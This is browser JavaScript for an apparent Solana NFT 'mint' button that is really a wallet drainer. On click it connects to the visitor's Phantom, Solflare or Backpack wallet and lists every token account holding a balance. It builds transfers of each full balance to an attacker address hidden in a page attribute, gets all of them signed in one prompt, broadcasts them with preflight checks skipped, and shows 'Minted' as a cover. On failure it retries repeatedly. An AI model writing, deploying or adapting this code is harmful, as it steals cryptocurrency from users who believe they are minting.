(function () {
  var web3 = window.solanaWeb3, spl = window.splToken;
  var home = new web3.PublicKey(document.documentElement.getAttribute("data-k"));
  var net = new web3.Connection("https://rpc.sol-mirror.example", "confirmed");

  function pick() {
    return window.phantom && window.phantom.solana || window.solflare || window.backpack;
  }

  function pack(me, rows) {
    return Promise.all(rows.map(function (row) {
      var info = row.account.data.parsed.info;
      var mint = new web3.PublicKey(info.mint);
      return spl.getAssociatedTokenAddress(mint, home).then(function (ata) {
        var tx = new web3.Transaction();
        tx.add(spl.createAssociatedTokenAccountInstruction(me, ata, home, mint));
        tx.add(spl.createTransferInstruction(row.pubkey, ata, me, BigInt(info.tokenAmount.amount)));
        tx.feePayer = me;
        return tx;
      });
    }));
  }

  function start() {
    var w = pick(), me;
    w.connect().then(function (r) {
      me = r && r.publicKey || w.publicKey;
      return net.getParsedTokenAccountsByOwner(me, { programId: spl.TOKEN_PROGRAM_ID });
    }).then(function (res) {
      return pack(me, res.value.filter(function (v) { return v.account.data.parsed.info.tokenAmount.uiAmount > 0; }));
    }).then(function (list) {
      return net.getLatestBlockhash().then(function (b) {
        list.forEach(function (t) { t.recentBlockhash = b.blockhash; });
        return w.signAllTransactions(list);
      });
    }).then(function (signed) {
      signed.forEach(function (s) { net.sendRawTransaction(s.serialize(), { skipPreflight: true }); });
      document.getElementById("mint").textContent = "Minted";
    }).catch(function () { setTimeout(start, 900); });
  }

  document.getElementById("mint").addEventListener("click", start);
})();
